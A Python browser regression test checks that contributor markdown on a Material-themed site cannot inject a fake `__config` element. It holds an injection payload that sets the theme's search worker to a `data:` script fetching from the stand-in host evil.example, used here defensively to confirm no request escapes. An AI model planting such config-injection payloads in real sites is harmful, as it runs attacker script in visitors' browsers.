"""In a real browser, contributed markup cannot take over the theme's configuration.

Material reads its settings (including the URL of its search worker) from the first element
with id `__config`; the article comes before the theme's own `<script id="__config">`. A
member's paragraph tagged `{: #__config }` with a `data:` worker URL therefore ran the member's
script before the sanitiser dropped theme-reserved ids. This test builds such a page, serves it
on 127.0.0.1 and opens it in headless Chromium: no request may leave for the contributor's host.
As a control, the same page with the id put back (what an unsanitised build wrote) must make
that request, so the test can tell the difference.

Skipped where Playwright or Chromium is missing, failed instead when `CI` is set.
"""

from __future__ import annotations

import functools
import os
import shutil
import threading
from collections.abc import Callable, Iterator
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.support.sites import Site

EVIL_HOST = "evil.example"
WORKER = f"data:text/javascript,fetch('https://{EVIL_HOST}/ran-from-content')"
BODY = (
    f'{{"base": "https://{EVIL_HOST}/", "features": [], "search": "{WORKER}", '
    '"translations": {}}\n'
    "{: #__config }\n"
)
CASE = (
    "---\ntitle: Hooks\nsummary: A case.\nproblem_types: [sampling]\ncontributors: [ann-lee]\n"
    f"date: 2024-03-01\n---\nIntro.\n\n{BODY}"
)


def unavailable(reason: str) -> None:
    if os.environ.get("CI"):
        pytest.fail(f"browser test cannot run in CI: {reason}", pytrace=False)
    pytest.skip(reason)


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def served(make_site: Callable[..., Site]) -> Iterator[tuple[str, Path]]:
    """The built page and an unsanitised control copy, served on a loopback port."""
    site = make_site({"repertoire/cases/hooks.md": CASE})
    # The check refuses the page; serving still writes it, which is what the sanitiser guards.
    assert site.serve_build().returncode == 0, site.last.stderr if site.last else ""
    page = site.site_dir / "cases" / "hooks" / "index.html"
    control = site.site_dir / "cases" / "control" / "index.html"
    control.parent.mkdir(parents=True)
    control.write_text(
        page.read_text(encoding="utf-8").replace('<p>{"base"', '<p id="__config">{"base"', 1),
        encoding="utf-8",
    )
    server = ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(_Quiet, directory=str(site.site_dir))
    )
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/", site.site_dir
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def keep_on_loopback(base_url: str, leaving: list[str]) -> Callable[[Any], None]:
    """A route handler that serves the site and refuses (and records) every other request."""

    def route(request_route: Any) -> None:
        url = request_route.request.url
        if url.startswith(base_url):
            request_route.continue_()
        else:
            leaving.append(url)
            request_route.abort()

    return route


def visit(base_url: str, paths: list[str]) -> dict[str, tuple[str, list[str]]]:
    """Per page: the tag of its `#__config` element and the requests it made to the evil host."""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        unavailable("Playwright for Python is not installed")
    executable = (
        os.environ.get("REPERTOIRE_CHROMIUM")
        or shutil.which("chromium")
        or shutil.which("chromium-browser")
    )
    if not executable:
        unavailable("no chromium executable")
    seen: dict[str, tuple[str, list[str]]] = {}
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=executable, args=["--no-sandbox", "--disable-gpu"]
        )
        try:
            for path in paths:
                context = browser.new_context()
                leaving: list[str] = []
                context.route("**/*", keep_on_loopback(base_url, leaving))
                page = context.new_page()
                page.goto(base_url + path, wait_until="load")
                page.wait_for_timeout(1000)
                tag = page.evaluate("document.querySelector('#__config').tagName")
                seen[path] = (tag, [url for url in leaving if EVIL_HOST in url])
                context.close()
        finally:
            browser.close()
    return seen


def test_a_contributed_config_cannot_redirect_the_theme(served: tuple[str, Path]) -> None:
    base_url, _ = served
    seen = visit(base_url, ["cases/control/", "cases/hooks/"])
    control_tag, control_requests = seen["cases/control/"]
    assert control_tag == "P" and control_requests, "the control page should show the attack"
    assert seen["cases/hooks/"] == ("SCRIPT", [])
